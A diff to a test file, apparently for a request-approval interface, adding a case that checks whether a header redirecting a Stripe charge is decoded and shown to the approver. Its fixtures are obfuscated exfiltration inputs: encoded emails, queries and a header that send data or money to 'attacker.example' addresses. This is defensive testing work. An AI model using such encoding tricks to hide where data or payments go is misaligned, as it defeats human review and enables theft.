@@ -414,7 +414,7 @@ t.test('a long name cannot push its end past the edge of the card', async (t) =>
   await reply;
 });
 
-t.test('escaped and encoded bodies and URLs are shown as the server reads them, or approving is a choice', async (t) => {
+t.test('escaped and encoded bodies and URLs are shown as the server reads them, with every header sent, or approving is a choice', async (t) => {
   // Exact but unreadable: every byte is on the card, and none of it says "drop@attacker.example".
   const tmp = fs.mkdtempSync(path.join(live.root, 'readings-'));
   const utf16 = path.join(tmp, 'utf16.json');
@@ -432,6 +432,8 @@ t.test('escaped and encoded bodies and URLs are shown as the server reads them, 
     // A mail sent as Gmail's API takes it: the whole message base64url in one JSON string.
     '/v1/read-base64': curl('POST', '/v1/read-base64', { body: JSON.stringify({ raw: Buffer.from('To: drop@attacker.example\r\nSubject: hi\r\n\r\nthe quarterly numbers').toString('base64url') }) }),
     [`/v1/read-query?to=${pct}`]: curl('POST', `/v1/read-query?to=${pct}`, { body: '{}' }),
+    // A header that changes what the request does: a charge on another Stripe account.
+    '/v1/read-header': curl('POST', '/v1/read-header', { body: '{"amount": 5}', headers: ['Stripe-Account: acct_1drop@attacker.example'] }),
     '/v1/read-utf7': curl('POST', '/v1/read-utf7', { body: '{"to": "bob+AEA-attacker.example"}', type: 'application/json; charset=utf-7' }),
   };
   for (const p of Object.keys(sent)) {
@@ -448,7 +450,7 @@ t.test('escaped and encoded bodies and URLs are shown as the server reads them, 
       t.match(await refused.json(), { code: 'body-not-shown' }, 'the API refuses it unseen');
       continue;
     }
-    const where = p.includes('?') ? `${sel} [data-testid=decoded-url]` : `${sel} [data-testid=server-reading]`;
+    const where = `${sel} [data-testid=${p.includes('?') ? 'decoded-url' : p.endsWith('header') ? 'request-headers' : 'server-reading'}]`;
     await page.waitForSelector(`${where} >> text=drop@attacker.example`);
     t.pass(`${p}: the card reads it as the server does`);
   }
